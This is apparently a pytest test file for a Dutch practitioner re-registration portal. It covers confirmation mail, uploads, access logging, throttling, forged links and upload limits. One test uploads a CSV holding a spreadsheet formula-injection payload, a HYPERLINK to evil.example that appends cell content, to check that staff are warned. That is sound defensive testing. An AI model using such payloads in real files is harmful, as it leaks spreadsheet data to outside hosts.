"""The way in: a practitioner asks to re-register, confirms the address by the mailed link and
sends both files; refusals create nothing. Offline database, real SMTP server, no Prefect
(the case's run is the reconciler's to start); the browser walk is in test_browser_way_in.py."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from typing import Any

from itsdangerous import URLSafeTimedSerializer
from markupsafe import escape
from sqlmodel import select

from adapters.links import make_token
from domain import messages as m
from domain.formatting import format_date
from domain.states import CaseState, Role
from models.access_log import Looked, case_accesses
from models.case import Case, history
from models.db import read_session, session_scope
from models.document import Document, DocumentKind
from models.practitioner import get_by_kp_number
from policies import load_policy
from service.actors import Actor
from service.imports import import_registrations
from settings import get_settings
from tasks.mail import deliver_pending
from tests.conftest import TODAY, Mailbox, csrf_from, herreg_env, login, make_staff, wait_until
from tests.factories import sample_pdf
from tests.test_web_links import PastSigner

OPERATOR = Actor(Role.OPERATOR, "Beheerder Test")
PDF = sample_pdf()
CSV = b"datum;behandelcode;uren\n2025-03-02;1000;1,5\n2025-03-09;1000;2\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"
_kp = iter(range(700000, 799999))


def registered(*, lapsed: bool = True, specialisation: str = "KOT") -> tuple[str, str]:
    """A practitioner in the imported register; KP number and e-mail address."""
    kp = str(next(_kp))
    start = "2019-03-01" if lapsed else "2024-03-01"
    email = f"p{kp}@example.org"
    report = import_registrations(
        "kp_nummer;naam;email;lid;specialisatie;periode_start\n"
        f"{kp};Petra Aanvraag {kp};{email};ja;{specialisation};{start}\n",
        actor=OPERATOR, source="test.csv")
    assert not report.rejected, report.rejected
    return kp, email


def shown(text: str) -> str:
    return str(escape(text))


def cases_of(kp: str) -> list[Case]:
    with read_session() as session:
        practitioner = get_by_kp_number(session=session, kp_number=kp)
        assert practitioner is not None
        return list(session.exec(select(Case).where(Case.practitioner_id == practitioner.id)))


def stored_files() -> list[str]:
    folder = get_settings().documents_dir
    return sorted(p.name for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def ask(client: Any, kp: str, email: str, specialisation: str = "KOT") -> Any:
    page = client.get(f"/aanvragen?kp={kp}&specialisatie={specialisation}")
    return client.post("/aanvragen", data={
        "kp_number": kp, "email": email, "specialisation": specialisation,
        "csrf_token": csrf_from(page.text)})


async def confirmation_link(mailbox: Mailbox, kp: str) -> str:
    """The path of the link in the confirmation mail to this KP number."""
    def find() -> str | None:
        for message in mailbox.messages:
            if str(message["X-Herregistratie-Key"]).startswith(f"request:{kp}:"):
                body = message.get_body(preferencelist=("plain",))
                assert body is not None
                found = re.search(r"https?://[^/\s]+(/aanvragen/[\w.-]+)", body.get_content())
                return found.group(1) if found else None
        return None

    return str(await wait_until(find, 10, f"confirmation mail to {kp}"))


def send(client: Any, path: str, files: dict[str, tuple[str, bytes, str]]) -> Any:
    page = client.get(path)
    return client.post(path, data={"csrf_token": csrf_from(page.text)}, files=files,
                       follow_redirects=False)


GOOD = {"portfolio": ("portfolio 2026.pdf", PDF, "application/pdf"),
        "patient_records": ("uittreksel.csv", CSV, "text/csv")}


@contextmanager
def staff_session(role: str) -> Iterator[Any]:
    from fastapi.testclient import TestClient

    from web.app import create_app

    with TestClient(create_app()) as staff:
        login(staff, make_staff(role))
        yield staff


async def test_a_practitioner_confirms_sends_both_files_and_staff_and_reviewer_see_them(
        offline_client: Any, mailbox: Mailbox) -> None:
    kp, email = registered()
    form = offline_client.get(f"/aanvragen?kp={kp}&specialisatie=KOT")
    assert f'value="{kp}"' in form.text and 'value="KOT" selected' in form.text

    sent = ask(offline_client, kp, email)
    assert sent.status_code == 200 and shown(m.REQUEST_ANSWER) in sent.text
    path = await confirmation_link(mailbox, kp)
    assert not cases_of(kp), "nothing is created before the address is confirmed"
    again = ask(offline_client, kp, email)  # a double click, or impatience
    assert again.status_code == 200 and shown(m.REQUEST_ANSWER) in again.text
    assert sum(str(k).startswith(f"request:{kp}:") for k in mailbox.keys().elements()) == 1

    upload = offline_client.get(path)
    assert upload.status_code == 200 and f"Petra Aanvraag {kp}" in upload.text
    done = send(offline_client, path, GOOD)
    assert done.status_code == 303 and "/status/" in done.headers["location"]
    (case,) = cases_of(kp)
    assert case.request_date == TODAY
    with read_session() as session:
        documents = list(session.exec(select(Document).where(Document.case_id == case.id)))
        events = history(session=session, case_id=case.id or 0)
    assert {(d.kind, d.filename, d.media_type) for d in documents} == {
        (DocumentKind.PORTFOLIO, "portfolio 2026.pdf", "application/pdf"),
        (DocumentKind.PATIENT_RECORDS, "uittreksel.csv", "text/csv")}
    for document, content in zip(sorted(documents, key=lambda d: d.kind.value),
                                 (CSV, PDF), strict=True):
        assert document.sha256 == hashlib.sha256(content).hexdigest()
        stored = get_settings().documents_dir / document.sha256[:2] / document.sha256
        assert stored.read_bytes() == content
    assert events[0].key == "open" and events[0].actor_role == Role.PRACTITIONER

    status = offline_client.get(done.headers["location"])
    assert "We hebben uw aanvraag en uw bestanden ontvangen." in status.text
    assert "portfolio 2026.pdf" in status.text and "uittreksel.csv" in status.text
    assert shown(m.REQUEST_ALREADY_OPEN.format(number=case.number, specialisation=load_policy(
        "KOT").name)) in send_without_form(offline_client, path).text  # the link, used again

    with staff_session("register_staff") as staff:
        page = staff.get(f"/zaken/{case.number}")
        assert "portfolio 2026.pdf" in page.text and "Punten en uren invoeren" not in page.text
        portfolio = next(d for d in documents if d.kind is DocumentKind.PORTFOLIO)
        download = staff.get(f"/zaken/{case.number}/documenten/{portfolio.id}")
        assert download.content == PDF
        assert download.headers["content-type"] == "application/pdf"
        assert download.headers["content-disposition"].startswith("attachment;")
        assert staff.get(f"/zaken/{case.number}/documenten/999999").status_code == 404

    with session_scope() as session:  # a reviewer assigned to the case (R10)
        from models.review import upsert_reviewer
        reviewer = upsert_reviewer(session=session, name="Dr. Bestand", email="rb@example.org")
        other = upsert_reviewer(session=session, name="Dr. Ander", email="ra@example.org")
        row = session.get(Case, case.id)
        assert row is not None
        row.reviewer_id = reviewer.id
        session.add(row)
        session.flush()
        mine, theirs = reviewer.id, other.id
    token = make_token("dossier", case=case.id, role="reviewer", reviewer=mine, round=1)
    assert offline_client.get(f"/beoordeling/{token}/documenten/{portfolio.id}").content == PDF
    forged = make_token("dossier", case=case.id, role="reviewer", reviewer=theirs, round=1)
    assert offline_client.get(
        f"/beoordeling/{forged}/documenten/{portfolio.id}").status_code == 403

    assert offline_client.get(f"/beoordeling/{token}").status_code == 200

    # Every look at the case and its files is recorded first; a refused one is not (NEN 7513).
    with read_session() as session:
        looked = [(a.looked, a.actor_role, a.document_id, a.client) for a in reversed(
            case_accesses(session=session, case_id=case.id or 0))]
    assert looked == [
        (Looked.CASE_PAGE, Role.REGISTER_STAFF, None, "testclient"),
        (Looked.DOCUMENT, Role.REGISTER_STAFF, portfolio.id, "testclient"),
        (Looked.DOCUMENT, Role.REVIEWER, portfolio.id, "testclient"),
        (Looked.DOSSIER, Role.REVIEWER, None, "testclient")]
    with staff_session("register_staff") as staff:
        extract = next(d for d in documents if d.kind is DocumentKind.PATIENT_RECORDS)
        assert staff.get(f"/zaken/{case.number}/documenten/{extract.id}").content == CSV
        assert staff.get(f"/beheer/inzage?zaak={case.number}").status_code == 403
    with staff_session("admin") as admin:
        shown_log = admin.get(f"/beheer/inzage?zaak={case.number}").text
        assert "Bestand geopend: uittreksel.csv" in shown_log
        assert "Dossier bekeken (beoordelaar)" in shown_log and "Dr. Bestand" in shown_log
        by_person = admin.get(f"/beheer/inzage?kp={kp}")
        assert by_person.status_code == 200 and case.number in by_person.text
        assert shown(m.PRACTITIONER_UNKNOWN.format(kp="99999")) in admin.get(
            "/beheer/inzage?kp=99999").text
        assert admin.get("/beheer/inzage?zaak=" + "9" * 21).status_code == 422
    mailbox.assert_each_once()


async def test_the_way_in_tells_a_stranger_nothing_and_the_address_on_file_why(
        offline_client: Any, mailbox: Mailbox) -> None:
    """Seen before: an unknown KP number, a known one with another address and the right
    address got three answers, the last with the registration's end date. Now one page for
    all; the register's reasons go only to the address on file."""
    kp, email = registered(lapsed=False)
    policy = load_policy("KOT")
    lapsed, _ = registered()
    answers = [ask(offline_client, kp, email),  # not lapsed yet
               ask(offline_client, "99999999", "x@example.org"),  # unknown
               ask(offline_client, lapsed, "iemand.anders@example.org")]  # not the address
    assert {answer.status_code for answer in answers} == {200}
    assert {re.sub(r'name="csrf_token" value="[^"]+"', "", answer.text)
            for answer in answers} == {re.sub(r'name="csrf_token" value="[^"]+"', "",
                                              answers[0].text)}
    assert "2027" not in answers[0].text and "HR-" not in answers[0].text
    await deliver_pending()
    (why,) = [msg for msg in mailbox.messages
              if str(msg["X-Herregistratie-Key"]).startswith(f"request:{kp}:")]
    last_day = format_date(policy.submission_deadline(policy.period_end(TODAY.replace(
        year=2024, month=3, day=1))))
    assert str(why["To"]) == email
    assert m.NOT_LAPSED.format(specialisation=policy.name, deadline=last_day) in \
        why.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    bad = ask(offline_client, "12", "geen-adres", "XYZ")
    assert bad.status_code == 422 and "aria-invalid" in bad.text
    assert not [k for k in mailbox.keys().elements()
                if str(k).startswith(("request:99999999", f"request:{lapsed}:"))]


def test_the_way_in_is_throttled_per_client_and_per_kp_number(offline: str) -> None:
    """120 requests in 17 s all got an answer before. Now a client and a KP number each get a
    few an hour; past that, one Dutch message, the same whoever asks."""
    from fastapi.testclient import TestClient

    from web.app import create_app

    kp, email = registered()
    with herreg_env(web__way_in_per_client="4", web__way_in_per_kp_number="2"), \
            TestClient(create_app(), client=("203.0.113.9", 40000)) as one, \
            TestClient(create_app(), client=("198.51.100.9", 40000)) as other:
        assert [ask(one, kp, email).status_code for _ in range(3)] == [200, 200, 429]
        throttled = ask(other, kp, email)  # the KP number's limit, from anywhere
        assert throttled.status_code == 429 and shown(m.REQUEST_THROTTLED) in throttled.text
        assert [ask(one, str(77700000 + i), "a@example.org").status_code
                for i in range(3)] == [200, 200, 429]  # the client's limit: 4 answered


async def test_an_extract_with_formula_cells_is_kept_and_staff_are_warned(
        offline_client: Any, mailbox: Mailbox) -> None:
    kp, email = registered()
    ask(offline_client, kp, email)
    path = await confirmation_link(mailbox, kp)
    formulas = b'datum;code\n2025-03-02;"=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")"\n'
    done = send(offline_client, path, {**GOOD, "patient_records": (
        "uittreksel.csv", formulas, "text/csv")})
    assert done.status_code == 303
    (case,) = cases_of(kp)
    assert shown(m.FILE_HAS_FORMULAS) not in offline_client.get(done.headers["location"]).text
    with staff_session("register_staff") as staff:
        page = staff.get(f"/zaken/{case.number}")
        assert page.text.count(shown(m.FILE_HAS_FORMULAS)) == 1, "only next to the extract"
        with read_session() as session:
            extract = session.exec(select(Document).where(
                Document.case_id == case.id,
                Document.kind == DocumentKind.PATIENT_RECORDS)).one()
        assert extract.formula_cells
        served = staff.get(f"/zaken/{case.number}/documenten/{extract.id}")
        assert served.content == formulas, "kept as sent: it is the practitioner's evidence"


async def test_wrong_missing_and_oversized_files_and_bad_links_create_nothing(
        offline_client: Any, mailbox: Mailbox) -> None:
    kp, email = registered()
    ask(offline_client, kp, email)
    path = await confirmation_link(mailbox, kp)
    before = stored_files()

    wrong = send(offline_client, path, {
        "portfolio": ("portfolio.pdf", PNG, "application/pdf"),  # named PDF, is an image
        "patient_records": ("uittreksel.csv", CSV, "text/csv")})
    assert wrong.status_code == 422 and shown(m.FILE_NOT_PDF) in wrong.text
    csv_as_portfolio = send(offline_client, path, {
        "portfolio": ("portfolio.csv", CSV, "text/csv"),
        "patient_records": ("uittreksel.pdf", PNG, "application/pdf")})
    assert shown(m.FILE_NOT_PDF) in csv_as_portfolio.text
    assert shown(m.FILE_NOT_PDF_OR_CSV) in csv_as_portfolio.text
    missing = send(offline_client, path, {"portfolio": ("portfolio.pdf", PDF, "application/pdf")})
    assert missing.status_code == 422 and shown(m.FILE_MISSING) in missing.text
    with herreg_env(uploads__max_mb="1"):
        big = PDF[:-6] + b"0" * (1024 * 1024) + b"\n%%EOF\n"
        oversized = send(offline_client, path, {
            "portfolio": ("groot.pdf", big, "application/pdf"),
            "patient_records": ("uittreksel.csv", CSV, "text/csv")})
        assert oversized.status_code == 422
        assert shown(m.FILE_TOO_LARGE.format(mb=1)) in oversized.text
    assert not cases_of(kp) and stored_files() == before

    prefix, token = path.rsplit("/", 1)
    forged = f"{prefix}/{'B' if token[0] != 'B' else 'C'}{token[1:]}"
    assert offline_client.get(forged).status_code == 403
    refused = send_without_form(offline_client, forged)
    assert refused.status_code == 403 and shown(m.REQUEST_NOT_CONFIRMED) in refused.text
    expired = URLSafeTimedSerializer(get_settings().link_secret, salt="herreg-request",
                                     signer=PastSigner).dumps(
        {"kp": kp, "specialisation": "KOT", "email": email})
    page = offline_client.get(f"/aanvragen/{expired}")
    assert page.status_code == 410 and shown(m.REQUEST_LINK_EXPIRED) in page.text
    assert not cases_of(kp) and stored_files() == before


def send_without_form(client: Any, path: str) -> Any:
    """Posts files with a session's CSRF token, as a script would without the page."""
    token = csrf_from(client.get("/aanvragen").text)
    return client.post(path, data={"csrf_token": token}, files=GOOD, follow_redirects=False)


async def test_vvocm_enters_points_and_hours_until_their_decision(
        offline_client: Any, mailbox: Mailbox) -> None:
    kp, email = registered()
    ask(offline_client, kp, email)
    send(offline_client, await confirmation_link(mailbox, kp), GOOD)
    (case,) = cases_of(kp)
    day = (TODAY - timedelta(days=200)).isoformat()
    with staff_session("association_staff") as staff:
        page = staff.get(f"/zaken/{case.number}")
        assert "Punten en uren invoeren" in page.text
        form = staff.get(f"/zaken/{case.number}/punten")
        token = csrf_from(form.text)
        refused = staff.post(f"/zaken/{case.number}/punten", data={
            "csrf_token": token, "activities-0-on": day, "activities-0-points": "veel",
            "activities-0-category": "course", "activities-0-title": "Cursus"})
        assert refused.status_code == 422 and 'id="activities-0-points-error"' in refused.text
        saved = staff.post(f"/zaken/{case.number}/punten", data={
            "csrf_token": token,
            "activities-0-on": day, "activities-0-points": "85,5",
            "activities-0-category": "course", "activities-0-accredited": "ja",
            "activities-0-title": "Cursus bekken",
            "work_hours-0-start": (TODAY - timedelta(days=1500)).isoformat(),
            "work_hours-0-end": (TODAY - timedelta(days=1)).isoformat(),
            "work_hours-0-hours": "1200", "work_hours-0-description": "Praktijk"},
            follow_redirects=False)
        assert saved.status_code == 303
        page = staff.get(saved.headers["location"])
        assert shown(m.EVIDENCE_SAVED) in page.text and "85,5" in page.text
        assert "Punten en uren ingevoerd" in page.text
        again = staff.get(f"/zaken/{case.number}/punten")
        assert 'value="85,5"' in again.text and 'value="Cursus bekken"' in again.text
    with session_scope() as session:
        row = session.get(Case, case.id)
        assert row is not None
        row.state = CaseState.REOPEN_ADVISED  # the association has decided
        session.add(row)
    with staff_session("association_staff") as staff:
        token = csrf_from(staff.get(f"/zaken/{case.number}/punten").text)
        late = staff.post(f"/zaken/{case.number}/punten", data={"csrf_token": token})
        assert late.status_code == 409
        assert shown(m.EVIDENCE_CLOSED.format(label=CaseState.REOPEN_ADVISED.label)) in late.text


def test_a_body_past_the_upload_limit_is_refused_before_it_is_read(offline: str) -> None:
    """Two files of 1 MB and the form fit; more is refused unread. Elsewhere 1 MB is the cap."""
    from fastapi.testclient import TestClient

    from web.app import create_app

    with herreg_env(uploads__max_mb="1"), TestClient(create_app()) as small:
        upload = small.post("/aanvragen/x", content=b"0" * (2 * 1024 * 1024 + 300 * 1024))
        form = small.post("/aanvragen", content=b"0" * (1024 * 1024 + 1))
        fits = small.post("/aanvragen/x", content=b"0" * (2 * 1024 * 1024))
    assert upload.status_code == 413 and form.status_code == 413
    assert fits.status_code == 403  # read, and refused for its missing CSRF token
